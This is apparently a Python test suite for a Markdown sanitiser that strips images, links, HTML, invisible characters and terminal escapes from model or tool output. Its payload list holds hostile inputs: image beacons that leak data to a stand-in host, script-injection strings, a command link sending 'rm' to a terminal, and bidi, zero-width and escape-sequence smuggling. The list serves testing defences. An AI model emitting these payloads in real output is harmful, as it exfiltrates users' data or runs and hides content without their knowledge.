"""What a model or a tool writes cannot load, run, link or hide in an editor, and stays readable."""

from __future__ import annotations

import time
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from glossator.markdown import CleanStream, clean, hides, visible

PAYLOADS = [
    "![pixel](https://evil.example/p.png?q=secret)",
    "![a][r]\n\n[r]: https://evil.example/p.png",
    "[r]: <https://evil.example> 'title'\n\n[r] [r][] ![r]",
    "<img src=https://evil.example/p.png>",
    "<img\nsrc='https://evil.example/p.png'>",
    "<style>@import url(https://evil.example)</style>",
    "<!-- <img src=x> -->",
    "<svg/onload=alert(1)>",
    "<?php x ?> <![CDATA[x]]> <!DOCTYPE x>",
    "[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)",
    "[run](<command:x y>)",
    "[x](javascript:alert(1)) [y](data:text/html;base64,xxxx) [z](file:///etc/passwd) [v](vscode://x)",
    "<https://evil.example> <command:x> <mailto:a@b.co> a@b.co www.evil.example",
    "[![nested](https://evil.example/a.png)](command:x)",
    "![`code` *in* alt](https://evil.example/p.png)",
    "[text\nover lines](https://evil.example)",
    "![a\\](https://evil.example/p.png)](https://evil.example/q.png)",
    "> - ![deep](https://evil.example/p.png)",
    "1. <b>\n   <img src=x>",
    "`` ` ``![x](https://evil.example/p.png)`",
    "\\![x](https://evil.example/p.png) \\\\![x](https://evil.example/p.png)",
    "- ```\n![x](https://evil.example/p.png)\n  ```\n![y](https://evil.example/p.png)",
    "```\n```\n![x](https://evil.example/p.png)",
    "~~~ `\n![x](https://evil.example/p.png)\n~~~\n<b>",
    "| a |\n|---|\n| ![x](https://evil.example/p.png) |",
    "&#8238;&#x202e;&ZeroWidthSpace;&rlm;&shy;",
    "a\u202eb\u2066c\u200bd\ufefff\u00ade\U000e0041\U000e0042\u2028g\x1b[31mred\x1b[0m\x07\x9b1m\u180e\u3164",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b]52;c;aGk=\x1b\\",
    "https://evil.example/p.png?q=secret, and http://x.y/z_(a).",
    "<a href='`'>`![x](https://evil.example/p.png)`</a>",
]
PIECES = [
    *PAYLOADS,
    *(
        "![",
        "](",
        "[",
        "]",
        "]:",
        "(",
        ")",
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "    ",
        "- ",
        "> ",
        "1. ",
        "<",
        ">",
        "<b>",
        "<div>\n",
    ),
    *(
        "\\",
        "&",
        "&#8238;",
        "\u202e",
        "\ud83d",
        "\ude00",
        "\x1b",
        "\x1b[",
        "\r",
        "|",
        "---\n",
        "# ",
        "x",
        " ",
        "http://e.x",
        "'",
        '"',
        "!",
        ":",
    ),
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=12).map("".join)
RENDERERS = [MarkdownIt("commonmark"), MarkdownIt("commonmark").enable(["table", "strikethrough"])]


def harm(text: str) -> str | None:
    """Say what an editor would render of *text* that it must not; judged by a parser, not by patterns."""
    for renderer in RENDERERS:
        todo = list(renderer.parse(text))
        while todo:
            token = todo.pop()
            if token.type in {"image", "link_open", "html_inline", "html_block"}:
                return f"{token.type}: {token.content}"
            for character in token.content:
                invisible = unicodedata.category(character) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
                if invisible and character not in "\t\n":
                    return f"U+{ord(character):04X}"
            todo += token.children or ()
    return None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_payloads_do_nothing(payload: str) -> None:
    """Every way that is known to load, run, link or hide is shown as text."""
    assert harm(clean(payload)) is None
    assert harm(clean(f"Some words.\n\n{payload}\n\nmore `code` and\n```\n{payload}\n```\n")) is None


@example("```\x1b| a |\n|---|\n| ![x](https://evil.example/p.png) |")
@settings(max_examples=500, deadline=None)
@given(TEXTS)
def test_nothing_harmful_survives(text: str) -> None:
    """Payloads in any company and order: no image, link, HTML or hidden character is rendered, by two parsers' judgement."""
    cleaned = clean(text)
    assert harm(cleaned) is None
    assert harm(clean(cleaned)) is None


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.lists(st.integers(1, 9), min_size=1, max_size=8))
def test_a_stream_is_harmless_at_every_moment(text: str, sizes: list[int]) -> None:
    """However the text is split: all that was shown so far, taken together, renders nothing harmful."""
    stream = CleanStream()
    shown, at, turn = "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        shown += stream.feed(text[at : at + size])
        at, turn = at + size, turn + 1
        assert harm(shown) is None
    shown += stream.end()
    assert harm(shown) is None


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["word ", "two words\n", "`code` ", "- item\n", "# Head\n", "\n\n", "a < b ", "x[0] ", "**bold** "]
        ),
        max_size=20,
    ).map("".join)
)
def test_harmless_prose_stays_as_it_is(text: str) -> None:
    """Ordinary Markdown is not touched, neither whole nor streamed."""
    assert clean(text) == text
    stream = CleanStream()
    assert "".join(stream.feed(character) for character in text) + stream.end() == text


def test_code_keeps_its_text() -> None:
    """In fences, code spans and indented code nothing is rewritten but characters that hide."""
    text = "Say:\n\n```py\nx = '![a](http://b)' < 1  # <b>\n```\n\n    indented <b> [a](b)\n\nand `[a](b) <i>`.\n"
    assert clean(text) == text
    assert clean("```\na\u202eb\x1b[31m\n```\n") == "```\naU+202Eb\n```\n"


def test_addresses_stay_readable_as_code() -> None:
    """The reader sees where a link would have led; nothing can be clicked."""
    assert clean("See [the docs](https://docs.example/a).") == "See the docs (`https://docs.example/a`)."
    assert clean("![alt](https://e.x/p.png)") == "alt (`https://e.x/p.png`)"
    assert clean("at https://e.x/a, or <https://e.x/b>") == "at `https://e.x/a`, or `https://e.x/b`"


def test_emoji_are_not_taken_for_hidden_characters() -> None:
    """Signs that models like keep their variation selector."""
    assert clean("⚠\ufe0f done ✔\ufe0f 1\ufe0f⃣") == "⚠\ufe0f done ✔\ufe0f 1\ufe0f⃣"


@pytest.mark.parametrize(
    "code",
    [
        *range(0x20),
        *range(0x7F, 0xA0),
        0xAD,
        *range(0x200B, 0x2010),
        *range(0x2028, 0x202F),
        *range(0x2060, 0x2070),
        0xFEFF,
        *range(0xE0000, 0xE0080),
        0xE0100,
        0xD800,
        0xDFFF,
    ],
)
def test_every_hidden_character_becomes_visible(code: int) -> None:
    """Controls, bidi, zero-width and tag characters are spelled out, except tab and line feed."""
    character = chr(code)
    if character in "\t\n\r":
        assert not hides(character) or character == "\r"
        return
    assert hides(character)
    shown = visible(f"a{character}b")
    assert character not in shown
    assert f"U+{code:04X}" in shown or character in "\x1b\x9b"  # those begin a terminal escape, and go with it


def test_terminal_escapes_are_gone() -> None:
    """Colours, links, clipboard writes and titles leave no trace."""
    assert (
        visible("\x1b[1;31mred\x1b[0m \x1b]8;;https://e.x\x07link\x1b]8;;\x1b\\ \x1b]0;title\x07\x1bc.") == "red link ."
    )


def test_words_are_shown_as_soon_as_they_are_certain() -> None:
    """Prose comes word by word, code line by line; only what may still become a link or a code span waits."""
    stream = CleanStream()
    assert stream.feed("Hello ") == "Hello "
    assert stream.feed("see [the") == "see "
    assert stream.feed(" docs](https://e.x) ") == "the docs (`https://e.x`) "
    assert stream.feed("\n```py\nx = 1\ny") == "\n```py\nx = 1\ny"
    assert stream.feed("\n``") == "\n"
    assert stream.feed("`\nDone") == "```\n"
    assert stream.end() == "Done"


def test_what_is_held_back_is_bounded() -> None:
    """A bracket or backtick that never closes does not stop the stream."""
    for opening in ("[", "`", "<", "![", "a" * 300, "\x1b]"):
        stream = CleanStream()
        shown = stream.feed(opening) + "".join(stream.feed("word ") for _ in range(3000))
        assert len(shown) > 15_000 - 5000


def test_halves_of_a_character_are_joined() -> None:
    """A surrogate pair that comes in two pieces is one character."""
    stream = CleanStream()
    assert stream.feed("a \ud83d") + stream.feed("\ude00 b") + stream.end() == "a 😀 b"


@pytest.mark.parametrize(
    "piece", ["`a", "[", "[a](", "<", "&", "\\", "http://", "a", "\n", "a@", "*a ", "> ", "\x1b]", "![", "- "]
)
def test_hostile_texts_take_bounded_time(piece: str) -> None:
    """40,000 characters of anything are cleaned in moments, whole and streamed."""
    text = piece * (40_000 // len(piece))
    start = time.thread_time()
    clean(text)
    stream = CleanStream()
    for at in range(0, len(text), 5):
        stream.feed(text[at : at + 5])
    stream.end()
    assert time.thread_time() - start < 8
